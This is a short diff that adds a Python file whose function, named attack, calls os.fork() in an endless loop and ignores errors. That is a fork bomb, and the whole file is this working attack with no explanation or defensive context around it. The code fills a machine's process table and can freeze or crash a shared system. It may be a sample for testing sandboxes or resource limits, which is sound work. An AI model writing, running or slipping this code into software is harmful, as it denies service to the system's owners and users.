@@ -1,0 +1,10 @@
+# Forks for ever.
+import os
+
+
+def attack():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
